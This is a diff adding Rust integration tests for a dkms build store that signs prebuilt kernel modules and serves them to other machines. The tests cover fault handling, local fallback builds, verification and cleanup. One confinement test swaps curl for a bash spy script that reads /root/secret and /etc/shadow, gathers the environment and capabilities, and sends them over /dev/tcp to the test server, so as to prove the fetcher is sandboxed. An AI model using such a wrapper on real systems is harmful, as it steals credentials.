@@ -1,0 +1,423 @@
+//! A store of builds: what one machine has compiled, others install without a compiler. Whatever is wrong with a store, they
+//! build themselves, within bounded time, and say why in one line.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::print_stderr)] // tests stop at the first surprise
+
+use std::collections::BTreeMap;
+use std::path::Path;
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use dkms_core::store::{PrivateKey, open};
+use dkms_tests::count::Counters;
+use dkms_tests::modules::Sources;
+use dkms_tests::roots::Layer;
+use dkms_tests::store_faults::{FILES, Fault, Files, SERVERS, SETTINGS, Store, Wrong, good};
+use dkms_tests::web::{Web, send};
+use dkms_tests::{Kernel, Output, Root, Suite, stage};
+
+/// Machines with curl and two modules that are not built yet; each machine signs with a key of its own.
+fn machines() -> (Layer, Kernel) {
+    let (layer, kernel) = stage::with_small_tree(Suite::trixie());
+    let layer = layer.prepared("store", "1", |root| {
+        root.apt_install(&["curl", "openssl"]).ok();
+        for name in ["one", "two"] {
+            Sources::new(name, "1.0").unpack(root);
+            root.run(&format!("dkms add {name}/1.0")).ok();
+        }
+    });
+    (layer, kernel)
+}
+
+/// The same, with builds that take no time: make copies what was compiled once. Each of many faults needs one.
+fn quick_machines() -> (Layer, Kernel) {
+    let (layer, kernel) = machines();
+    let layer = layer.prepared("quick", "1", |root| {
+        root.write("/etc/dkms/framework.conf.d/unsigned.conf", "try_sign_modules=false\n");
+        autoinstall(root, &kernel);
+        for name in ["one", "two"] {
+            let dir = format!("/usr/src/{name}-1.0");
+            root.run(&format!("xz -dc {}/{name}.ko.xz >/tmp/{name}.ko", kernel.dkms_dir())).ok();
+            root.run(&format!(
+                "dkms remove {name}/1.0 --all && rm {dir}/* && cp /tmp/{name}.ko {dir}/compiled"
+            ))
+            .ok();
+            root.write(&format!("{dir}/Makefile"), format!("{name}.ko: compiled\n\tcp $< $@\n"));
+            let conf = format!(
+                "PACKAGE_NAME={name}\nPACKAGE_VERSION=1.0\nAUTOINSTALL=yes\nMAKE[0]=\"make {name}.ko\"\n\
+                                BUILT_MODULE_NAME[0]={name}\nDEST_MODULE_LOCATION[0]=/updates\n"
+            );
+            root.write(&format!("{dir}/dkms.conf"), conf);
+            root.run(&format!("dkms add {name}/1.0")).ok();
+        }
+        root.run("rm -rf /var/cache/dkms /etc/dkms/framework.conf.d/unsigned.conf").ok();
+    });
+    (layer, kernel)
+}
+
+fn autoinstall(root: &Root, kernel: &Kernel) -> Output {
+    root.run_within(300, &format!("dkms autoinstall -k {}", kernel.release)).ok()
+}
+
+/// Builds everything, and pushes it to a store in a directory.
+fn fill(root: &Root, kernel: &Kernel) -> Files {
+    autoinstall(root, kernel);
+    root.run("dkms store key fleet && dkms store push /srv/store").ok().says(&["2 builds pushed"]);
+    files(&root.path("/srv/store"))
+}
+
+fn files(dir: &Path) -> Files {
+    let mut open = vec![dir.to_owned()];
+    let mut found = Files::new();
+    while let Some(next) = open.pop() {
+        for entry in std::fs::read_dir(&next).unwrap() {
+            let path = entry.unwrap().path();
+            if path.is_dir() {
+                open.push(path);
+            } else {
+                let name = path.strip_prefix(dir).unwrap().to_str().unwrap().to_owned();
+                found.insert(name, std::fs::read(&path).unwrap());
+            }
+        }
+    }
+    found
+}
+
+fn write(root: &Root, files: &Files) {
+    for (name, content) in files {
+        root.write(&format!("/srv/store/{name}"), content);
+    }
+}
+
+/// A store with both modules.
+fn store(root: &Root, files: &Files) -> Store {
+    let key = root.read("/etc/dkms/store.key");
+    let private: PrivateKey = key.parse().unwrap();
+    let of = |module: &str| {
+        let open =
+            |content: &Vec<u8>| String::from_utf8(open(content, &[private.public()]).unwrap()).unwrap();
+        let is = |content: &Vec<u8>| open(content).contains(&format!("\"module\":\"{module}\""));
+        let found = files.iter().find(|(path, content)| path.ends_with(".json") && is(content));
+        let (path, content) = found.unwrap();
+        (path.clone(), content.clone(), open(content))
+    };
+    let (manifest, _, statement) = of("one");
+    let object = files.keys().find(|path| {
+        let hash = path.rsplit('/').next().unwrap().trim_end_matches(".zst");
+        path.ends_with(".zst") && statement.contains(hash)
+    });
+    Store { object: object.unwrap().clone(), files: files.clone(), manifest, other: of("two").1, key }
+}
+
+type Serves = fn(&Store, &str, &mut std::net::TcpStream);
+
+/// A server of this store.
+fn serve(store: Store, answer: Serves) -> Web {
+    Web::start(Arc::new(move |path, stream| answer(&store, path, stream)))
+}
+
+fn trust(root: &Root, url: &str, key: &str) {
+    root.write(
+        "/etc/dkms/policy.toml",
+        format!("[store]\nurl = [\"{url}\"]\ntrust = [\"{}\"]\nseconds = 5\n", key.trim()),
+    );
+}
+
+/// The SHA-256 of each installed module without compression and signature.
+fn unsigned(root: &Root, kernel: &Kernel) -> BTreeMap<String, String> {
+    let mut all = BTreeMap::new();
+    for (path, _) in kernel.module_files(root) {
+        root.run(&format!("xz -dc {path} >/tmp/signed.ko")).ok();
+        let content = root.read_bytes("/tmp/signed.ko");
+        assert!(content.ends_with(b"~Module signature appended~\n"), "{path} is signed");
+        let plain = dkms_core::kernel::signature::without(&content);
+        all.insert(path, dkms_core::sys::hash::hex(plain));
+    }
+    all
+}
+
+#[test]
+fn a_second_machine_compiles_nothing() {
+    let (layer, kernel) = machines();
+    let first = Root::on(&layer);
+    let files = fill(&first, &kernel);
+    let key = first.read("/etc/dkms/store.pub");
+    assert_eq!(files.len(), 4, "{:?}", files.keys());
+    let (modules, keys) = (unsigned(&first, &kernel), first.read_bytes("/var/lib/dkms/mok.pub"));
+    let web = serve(store(&first, &files), good);
+    for url in ["file:///srv/store", &web.url()] {
+        let second = Root::on(&layer);
+        write(&second, &files);
+        trust(&second, url, &key);
+        let counters = Counters::install(&second);
+        let told = autoinstall(&second, &kernel);
+        let counts = counters.take();
+        assert_eq!((counts.builds, counts.compiled, counts.depmods), (0, 0, 1), "{url}: {told}");
+        second.expect_installed(&["one/1.0", "two/1.0"], &kernel.release);
+        assert_eq!(unsigned(&second, &kernel), modules, "{url}");
+        assert_ne!(second.read_bytes("/var/lib/dkms/mok.pub"), keys, "each machine signs with its own key");
+        kernel.expect_vermagic(&second);
+        let status = second.run("dkms status --json").ok().stdout;
+        assert_eq!(status.matches(&format!("\"store\": \"{url}\"")).count(), 2, "{status}");
+        let metrics = second.run("dkms status --prometheus").ok().stdout;
+        assert_eq!(metrics.matches("dkms_from_store{").count(), 2, "{metrics}");
+        // Nothing is asked for twice.
+        let asked = web.asked();
+        autoinstall(&second, &kernel).never_says(&["store"]);
+        assert_eq!(web.asked(), asked);
+    }
+    // Two manifests, two objects.
+    assert_eq!(web.asked(), 4);
+}
+
+/// A machine on which the builds of a store fail one after the other, and what a local build gives.
+fn victim(layer: &Layer, kernel: &Kernel) -> (Root, Store, BTreeMap<String, String>) {
+    let first = Root::on(layer);
+    let files = fill(&first, kernel);
+    let store = store(&first, &files);
+    let second = Root::on(layer);
+    second.run("dkms remove two/1.0 --all").ok();
+    let mut modules = unsigned(&first, kernel);
+    modules.retain(|path, _| path.contains("one"));
+    (second, store, modules)
+}
+
+/// Every fault ends in a local build, and one line.
+fn each_builds_locally(faults: &[Fault]) {
+    let (layer, kernel) = quick_machines();
+    let (root, store, modules) = victim(&layer, &kernel);
+    let public = store.key.parse::<PrivateKey>().unwrap().public().to_string();
+    root.run("cd /tmp && openssl req -x509 -newkey rsa:2048 -nodes -keyout tls.key -out tls.pem -days 9 -subj /CN=127.0.0.1 2>/dev/null").ok();
+    root.start("cd /tmp && exec openssl s_server -accept 7443 -cert tls.pem -key tls.key -WWW -quiet >/dev/null 2>&1");
+    let plain = serve(store.clone(), good);
+    let counters = Counters::install(&root);
+    for Fault { name, wrong, says } in faults {
+        root.note(name);
+        root.run("rm -rf /srv/store /srv/other /var/cache/dkms; dkms remove one/1.0 --all; dkms add one/1.0")
+            .ok();
+        let mut changed = store.clone();
+        if let Wrong::Files(change) = wrong {
+            change(&mut changed);
+        }
+        write(&root, &changed.files);
+        let (mut url, mut settings) = ("file:///srv/store".to_owned(), None);
+        let mut web = None;
+        match wrong {
+            Wrong::Files(_) => {}
+            Wrong::Shell(command) => {
+                let Store { manifest, object, .. } = &store;
+                root.run(&format!("cd /srv/store; M=$PWD/{manifest} O=$PWD/{object}; {command}")).ok();
+            }
+            Wrong::Server(answer) => url = web.insert(serve(changed.clone(), *answer)).url(),
+            Wrong::Settings(text) => {
+                settings = Some(
+                    text.replace("KEY", &public)
+                        .replace("STORE", &url)
+                        .replace("http://PLAIN", &plain.url())
+                        .replace("https://PLAIN", &plain.url().replace("http:", "https:")),
+                )
+            }
+        }
+        let settings = settings.unwrap_or_else(|| format!("url = [\"{url}\"]\ntrust = [\"{public}\"]"));
+        root.write("/etc/dkms/policy.toml", format!("[store]\nseconds = 2\n{settings}\n"));
+        counters.take();
+        let began = Instant::now();
+        let told = autoinstall(&root, &kernel);
+        let took = began.elapsed();
+        let all = told.all();
+        let about: Vec<&str> = all.lines().filter(|line| line.contains("store")).collect();
+        assert!(about.len() == 1 && about[0].contains(says), "{name}: {about:#?}\n{told}");
+        assert!(!all.contains(['\u{1b}', '\u{9b}', '\u{7}']), "{name}: controls the terminal\n{told:?}");
+        assert_eq!(counters.take().builds, 1, "{name}: compiled here\n{told}");
+        assert_eq!(unsigned(&root, &kernel), modules, "{name}");
+        assert!(took < Duration::from_secs(90), "{name}: {took:?}");
+        let left = root.run("ls /etc/dkms/evil /root/evil 2>/dev/null; ls -A /var/lib/dkms/.dkms-rs/work; dkms status --json | grep '\"store\"'");
+        assert_eq!(left.stdout, "", "{name}: something was left");
+        eprintln!("{:5.1} s  {name}: {}", took.as_secs_f64(), about[0]);
+        drop(web);
+    }
+}
+
+#[test]
+fn files_that_are_wrong() {
+    each_builds_locally(FILES);
+}
+
+#[test]
+fn servers_that_misbehave() {
+    each_builds_locally(SERVERS);
+}
+
+#[test]
+fn settings_and_addresses() {
+    each_builds_locally(SETTINGS);
+}
+
+/// What surrounds a machine changes nothing: its store is used.
+#[test]
+fn what_is_not_the_stores_fault() {
+    let (layer, kernel) = quick_machines();
+    let (root, store, modules) = victim(&layer, &kernel);
+    let public = store.key.parse::<PrivateKey>().unwrap().public().to_string();
+    let web = serve(store.clone(), |store, path, stream| match path.strip_prefix("moved/") {
+        Some(path) => send(stream, "302 Found", &format!("Location: /{path}\r\n"), b"moved"),
+        None => good(store, path, stream),
+    });
+    let file = "file:///srv/store".to_owned();
+    let counters = Counters::install(&root);
+    for (name, url, before) in [
+        (
+            "a proxy in the environment",
+            web.url(),
+            "export http_proxy=http://127.0.0.1:1 HTTPS_PROXY=http://127.0.0.1:1 ALL_PROXY=http://127.0.0.1:1",
+        ),
+        (
+            "a .curlrc of root",
+            web.url(),
+            "echo 'proxy = http://127.0.0.1:1' >/root/.curlrc; export CURL_HOME=/root",
+        ),
+        (
+            "other libraries in the environment",
+            web.url(),
+            "export LD_PRELOAD=/nonexistent.so SSL_CERT_FILE=/dev/null",
+        ),
+        ("a redirect", format!("{}/moved", web.url()), ":"),
+        ("a slash at the end", format!("{}/", web.url()), ":"),
+        (
+            "a store of another user, writable for all",
+            file.clone(),
+            "chown -R 1234 /srv/store; chmod -R a+w /srv/store",
+        ),
+        ("links inside of the store", file.clone(), "cd /srv/store; mv objects other; ln -s other objects"),
+        ("a link to the store", file.clone(), "mv /srv/store /srv/other; ln -s other /srv/store"),
+        ("the second of two stores", format!("http://127.0.0.1:1\", \"{}", web.url()), ":"),
+    ] {
+        root.note(name);
+        root.run("rm -rf /srv/store /srv/other /var/cache/dkms /root/.curlrc; dkms remove one/1.0 --all; dkms add one/1.0").ok();
+        write(&root, &store.files);
+        trust(&root, &url, &public);
+        counters.take();
+        let told = root
+            .run(&format!("({before}) 2>/dev/null; {before}; dkms autoinstall -k {}", kernel.release))
+            .ok();
+        assert_eq!(counters.take().builds, 0, "{name}: {told}");
+        told.says(&["(from the store)"]);
+        assert_eq!(unsigned(&root, &kernel), modules, "{name}");
+    }
+    for (name, before, url, says) in [
+        ("no curl", "mv /usr/bin/curl /usr/bin/other", web.url(), "curl is not installed; apt install curl"),
+        (
+            "no cache",
+            "mv /usr/bin/other /usr/bin/curl; echo cache_mib = 0 >/etc/dkms/p; cat /etc/dkms/policy.toml >>/etc/dkms/p; mv /etc/dkms/p /etc/dkms/policy.toml",
+            file,
+            "cache_mib is 0",
+        ),
+    ] {
+        root.run("rm -rf /var/cache/dkms; dkms remove one/1.0 --all; dkms add one/1.0").ok();
+        trust(&root, &url, &public);
+        root.run(before).ok();
+        let told = autoinstall(&root, &kernel);
+        let all = told.all();
+        let about: Vec<&str> = all.lines().filter(|line| line.contains("store")).collect();
+        assert!(about.len() == 1 && about[0].contains(says), "{name}: {about:#?}\n{told}");
+        assert_eq!((counters.take().builds, unsigned(&root, &kernel)), (1, modules.clone()), "{name}");
+    }
+}
+
+/// The process that speaks to the server has nothing that is worth stealing.
+#[test]
+fn the_process_that_speaks_to_servers_is_confined() {
+    let (layer, kernel) = quick_machines();
+    let (root, store, _) = victim(&layer, &kernel);
+    let public = store.key.parse::<PrivateKey>().unwrap().public().to_string();
+    let web = serve(store, good);
+    trust(&root, &web.url(), &public);
+    root.run("echo SECRET >/root/secret; chmod 644 /root/secret; chmod 755 /root; mv /usr/bin/curl /usr/bin/curl.real").ok();
+    // What it would find; the report goes to the server, as it can write nowhere.
+    root.write_script(
+        "/usr/bin/curl",
+        &format!(
+            "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/{}\n\
+             report=\"$(id -u) $(ls /var/lib/dkms /etc/dkms /var/cache/dkms /root /home | tr '\\n' ' ') $(wc -c <&0) \\\n\
+             $(touch /tmp/../etc/x /var/lib/dkms/x /usr/x 2>/dev/null && echo WRITES) $(cat /root/secret /etc/shadow 2>/dev/null) \\\n\
+             $(env | cut -d= -f1 | tr '\\n' ' ') $(ls /proc | grep -cE '^[0-9]+$') $(grep -E 'NoNewPrivs|CapEff|CapBnd' /proc/self/status | tr -s '\\t\\n' ' ')\"\n\
+             printf 'GET /%s HTTP/1.0\\r\\n\\r\\n' \"$(echo \"$report\" | tr -c 'A-Za-z0-9:./\\n-' _ | tr '\\n' '|')\" >&3\nexec /usr/bin/curl.real \"$@\"\n",
+            web.url().rsplit(':').next().unwrap()
+        ),
+    );
+    let told = autoinstall(&root, &kernel).says(&["(from the store)"]);
+    let report = web.paths().into_iter().find(|path| path.contains("NoNewPrivs")).expect(&told.all());
+    eprintln!("{report}");
+    let (uid, rest) = report.split_once('_').unwrap();
+    assert!((65520..=65532).contains(&uid.parse::<u32>().unwrap()), "{report}");
+    // All these directories are empty.
+    for dir in ["/etc/dkms", "/home", "/root", "/var/lib/dkms"] {
+        assert!(report.contains(&format!("_{dir}:__")), "{dir} is empty: {report}");
+    }
+    for word in ["WRITES", "SECRET", "root:", "mok", "DKMS", "store.key"] {
+        assert!(!rest.contains(word), "{word}: {report}");
+    }
+    assert!(rest.contains("CapEff:_0000000000000000") && rest.contains("NoNewPrivs:_1"), "{report}");
+}
+
+/// A store in care: pushing again, verifying, cleaning up.
+#[test]
+fn a_store_is_kept_in_order() {
+    let (layer, kernel) = quick_machines();
+    let root = Root::on(&layer);
+    root.run("dkms store push /srv/store").fails().says(&["to generate a key: dkms store key"]);
+    let files = fill(&root, &kernel);
+    assert_eq!(root.run("stat -c %a /etc/dkms/store.key").ok().stdout, "600\n");
+    root.run("dkms store key").fails().says(&["exists; nothing was changed"]);
+    root.run("dkms store push /srv/store").ok().says(&["0 builds pushed, 2 were there"]);
+    root.run("dkms store push /srv/store three").exits(1).says(&["0 builds pushed"]);
+    assert_eq!(self::files(&root.path("/srv/store")), files, "nothing was written again");
+    root.run("dkms store verify /srv/store").ok().says(&["2 builds, 0 problems"]);
+    let table = root.run("dkms store report /srv/store").ok().stdout;
+    assert!(table.contains(&kernel.release) && table.matches("yes").count() == 2, "{table}");
+    let document: serde_json::Value =
+        serde_json::from_str(&root.run("dkms store report /srv/store --json").ok().stdout).unwrap();
+    assert_eq!(document["builds"].as_array().unwrap().len(), 2, "{document}");
+    // An ordinary user can verify it, with the public key.
+    root.run("setpriv --reuid=1234 --clear-groups dkms store verify /srv/store --key /etc/dkms/store.pub")
+        .ok();
+    // A build whose source has changed is not pushed as if it were made of it.
+    root.run("echo >>/usr/src/one-1.0/one.c; rm -r /srv/store; dkms store push /srv/store").ok().says(&[
+        "one/1.0",
+        "not pushed: it is out of date",
+        "1 builds pushed",
+    ]);
+    // Damage is found.
+    write(&root, &files);
+    let broken = format!("/srv/store/{}", store(&root, &files).object);
+    root.run(&format!("printf X | dd of={broken} bs=1 seek=100 conv=notrunc")).ok();
+    root.run("dkms store verify /srv/store").exits(1).says(&["2 builds, 1 problems", "hash of the object"]);
+    // What no kernel needs goes, first as a list.
+    write(&root, &files);
+    root.write("/srv/store/objects/ab/abc.zst", "of a push that was killed");
+    root.run("touch -d '3 days ago' /srv/store/objects/ab/abc.zst").ok();
+    root.run("dkms store gc /srv/store --dry-run")
+        .ok()
+        .says(&["objects/ab/abc.zst", "1 files would be deleted"]);
+    root.run("dkms store gc /srv/store").ok().says(&["1 files deleted"]);
+    root.run(&format!("dkms store gc /srv/store -k {}", kernel.release)).ok().says(&["0 files deleted"]);
+    assert_eq!(self::files(&root.path("/srv/store")), files);
+    root.run("touch -d '9 days ago' $(find /srv/store -name '*.json' | head -1); dkms store gc /srv/store --older-than 7").ok().says(&["2 files deleted"]);
+    root.run("dkms store verify /srv/store").ok().says(&["1 builds, 0 problems"]);
+    root.run("dkms store gc /srv/store -k 5.0.0").ok().says(&["2 files deleted"]);
+    assert_eq!(self::files(&root.path("/srv/store")).len(), 0);
+}
+
+/// A killed push leaves no manifest without its object.
+#[test]
+fn a_push_that_is_killed_leaves_a_whole_store() {
+    let (layer, kernel) = quick_machines();
+    let root = Root::on(&layer);
+    fill(&root, &kernel);
+    for delay in ["0.02", "0.05", "0.1", "0.15", "0.2", "0.3", "0.4"] {
+        root.run(&format!(
+            "rm -rf /srv/store; mkdir /srv/store; timeout -s KILL {delay} dkms store push /srv/store"
+        ));
+        root.run("dkms store verify /srv/store").ok().says(&[" 0 problems"]);
+    }
+    root.run("dkms store push /srv/store; dkms store verify /srv/store").ok().says(&["2 builds, 0 problems"]);
+}
